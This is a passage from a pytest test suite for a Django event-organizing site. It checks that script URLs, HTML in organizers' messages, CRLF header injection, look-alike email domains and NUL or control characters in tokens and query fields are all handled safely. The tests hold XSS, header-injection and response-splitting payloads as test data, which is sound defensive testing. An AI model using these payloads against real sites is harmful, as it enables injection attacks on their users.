    SignupFactory(event=event, name=f"Name {HOSTILE}")
    client = Client()
    client.force_login(world.coordinator)
    with time_machine.travel(NOW, tick=False):
        response = client.get(path.format(pk=event.pk))
    assert response.status_code == 200, path
    assert_inert(response.content.decode(), path)


@pytest.mark.parametrize(
    "field, value",
    [
        ("signup_url", "javascript:alert(1)"),
        ("signup_url", "data:text/html,<script>alert(1)</script>"),
        ("meeting_url", "javascript:alert(1)//https://zoom.us/j/1"),
        ("signup_url", "JAVASCRIPT:alert(1)"),
    ],
)
def test_an_event_link_that_would_run_a_script_is_never_saved(field, value):
    """Every edit (forms, admin, importers) saves through save_event_changes, which validates."""
    from django.core.exceptions import ValidationError

    from turnout.campaigns.services import save_event_changes

    event = LocalEventFactory()
    setattr(event, field, value)
    with pytest.raises(ValidationError):
        save_event_changes(event=event, changed_fields=[field])


def test_an_organizers_message_reaches_attendees_as_text_with_no_script_links(client):
    from turnout.notifications.models import OutboxMessage
    from turnout.notifications.outbox import write_owed_letters

    with time_machine.travel(NOW, tick=False):
        world = build_world()
        client.force_login(world.coordinator)
        response = client.post(
            f"/en/signups/events/{world.event.pk}/attendees/message/",
            {
                "subject": "Update\r\nBcc: all@example.org",
                "body": f"{HOSTILE}\njavascript:alert(1) <a href=javascript:alert(1)>x</a>\n"
                "data:text/html,<script>alert(1)</script> https://example.org/ok",
            },
        )
        assert response.status_code == 302
        write_owed_letters()
        copy = OutboxMessage.objects.get(to_email=world.signup.email)
    assert copy.subject.endswith("Update Bcc: all@example.org")
    assert "\n" not in copy.subject and "\r" not in copy.subject
    assert_inert(copy.body_html, "an organizer's message")
    links = _attribute_values(copy.body_html, "a", "href")
    assert all(link.startswith(("https://", "http://127.0.0.1:8000/")) for link in links), links


# -- look-alike addresses ----------------------------------------------------------------------


@pytest.mark.parametrize(
    "typed",
    [
        "Ada@Example.org",
        " ada@example.org ",
        "ada@ＥＸＡＭＰＬＥ.org",  # full-width letters: the same domain under IDNA
        "ada@example\u3002org",  # an ideographic full stop: the same domain under IDNA
    ],
)
def test_one_address_typed_differently_is_one_person_for_the_limits(typed):
    from turnout.web.email_addresses import normalize_email

    assert normalize_email(typed) == "ada@example.org"


def test_a_look_alike_domain_is_another_address_not_a_merge_with_the_real_one():
    from turnout.web.email_addresses import normalize_email

    assert normalize_email("ada@ex\u0430mple.org") != "ada@example.org"  # Cyrillic а


# -- what only confirmed participants see ------------------------------------------------------


@pytest.mark.parametrize("state", ["awaiting_confirmation", "waitlisted", "cancelled"])
def test_a_signup_without_a_place_sees_no_private_details(state):
    with time_machine.travel(NOW, tick=False):
        world = build_world()
        LocalEvent.objects.filter(pk=world.event.pk).update(
            location_is_private=True,
            address="Qzx7 Secret Street 1",
            meeting_point="Qzx7 north steps",
            private_instructions="Qzx7 bring the banner",
            meeting_url="https://meet.example.org/qzx7-call",
            attendance_mode=LocalEvent.AttendanceMode.MIXED,
        )
        signup = SignupFactory(event=world.event, state=state, email="nope@example.org")
        client = Client()
        pages = [
            client.get(f"/en/signups/{signup.token}/"),
            client.get(f"/en/signups/{signup.token}/invite.ics"),
            client.get(f"/en/events/{world.event.pk}/"),
            client.get(f"/en/cards/events/{world.event.pk}.ics"),
            client.get(f"/api/v1/events/{world.event.pk}/"),
            client.get("/feeds/events.ics"),
        ]
    for response in pages:
        body = response.content.decode(errors="replace")
        assert "Qzx7" not in body and "qzx7" not in body, response.request["PATH_INFO"]


TOKEN_PATHS = [
    "/en/signups/{t}/",
    "/en/signups/{t}/invite.ics",
    "/en/signups/privacy/{t}/",
    "/en/proposals/{t}/confirm/",
    "/en/dashboard/invitations/{t}/",
    "/en/accounts/sign-in/link/{t}/",
    "/en/alerts/{t}/",
    "/en/follow-up/{t}/",
    "/en/follow-up/{t}/photos/",
    "/en/check-in/events/1/code/{t}/",
    "/media/photos/{t}/x.webp",
]


@pytest.mark.parametrize("template", TOKEN_PATHS)
@pytest.mark.parametrize("token", ["%00", "abc%00def", "%0d%0aSet-Cookie:x=1", "%1b[31m"])
def test_a_control_character_in_a_token_finds_nothing_on_every_database(template, token):
    """PostgreSQL cannot compare text holding a NUL: without the check, a 500 there."""
    with time_machine.travel(NOW, tick=False):
        build_world()
        client = Client()
        client.force_login(UserFactory(email="door@example.org", is_superuser=True))
        for method in (client.get, client.post):
            response = method(template.format(t=token))
            assert response.status_code == 404, (template, token, response.status_code)
            assert "Set-Cookie" not in str(response.headers.get("Location", ""))


QUERY_FIELDS = [
    "q", "near", "city", "country", "campaign", "group", "kind", "when", "units", "state",
    "via", "lang", "page", "how", "attention", "radius", "series", "slug", "calendar_url",
]  # fmt: skip


@pytest.mark.parametrize(
    "path",
    [
        "/en/events/",
        "/en/",
        "/api/v1/events/",
        "/api/v1/groups/",
        "/api/v1/cities/",
        "/en/groups/",
        "/en/press/",
        "/en/archive/",
        "/en/campaigns/may/",
        "/en/signups/events/{pk}/attendees/",
        "/en/check-in/events/{pk}/",
        "/en/dashboard/",
        "/feeds/events.ics",
        "/embed/campaigns/may/",
    ],
)
def test_a_nul_in_any_query_field_is_never_a_server_error(path):
    """Every query field the site reads, with a NUL: PostgreSQL refuses text holding one."""
    with time_machine.travel(NOW, tick=False):
        world = build_world()
        client = Client(raise_request_exception=False)
        client.force_login(world.coordinator)
        query = "&".join(f"{name}=a%00b" for name in QUERY_FIELDS)
        response = client.get(f"{path.format(pk=world.event.pk)}?{query}")
    assert response.status_code < 500, response.status_code


def test_a_control_character_in_an_api_address_is_a_json_404():
    """The API keeps to its documented content type (tests/api/test_schema.py found it)."""
    response = Client().get("/api/v1/campaigns/a%06b/")
    assert response.status_code == 404
    assert response.headers["Content-Type"] == "application/json"
    assert response.json() == {"detail": "Not found."}
